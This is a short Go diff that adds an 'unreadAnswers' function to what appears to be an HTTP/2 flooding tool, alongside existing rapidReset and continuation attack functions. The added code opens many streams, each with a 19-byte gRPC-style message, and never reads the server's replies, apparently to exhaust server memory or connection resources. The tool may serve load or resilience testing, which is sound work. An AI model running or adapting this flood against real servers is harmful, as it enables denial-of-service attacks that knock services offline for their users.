@@ -107,6 +107,19 @@ func rapidReset(ctx context.Context, t *target, c *counter) error {
 	})
 }
 
+// unreadAnswers asks in 19 bytes for each answer, and does not even read the headers of one.
+func unreadAnswers(ctx context.Context, t *target, c *counter) error {
+	block := request()
+	key := []byte("pub/0000000")
+	message := append([]byte{0, 0, 0, 0, byte(2 + len(key)), 0x0a, byte(len(key))}, key...)
+	return flood(ctx, t, c, 4, false, func(f *http2.Framer, n uint32) error {
+		id := 2*n + 1
+		return errors.Join(
+			f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}),
+			f.WriteData(id, true, message))
+	})
+}
+
 func continuation(ctx context.Context, t *target, c *counter) error {
 	first := request()
 	var b bytes.Buffer
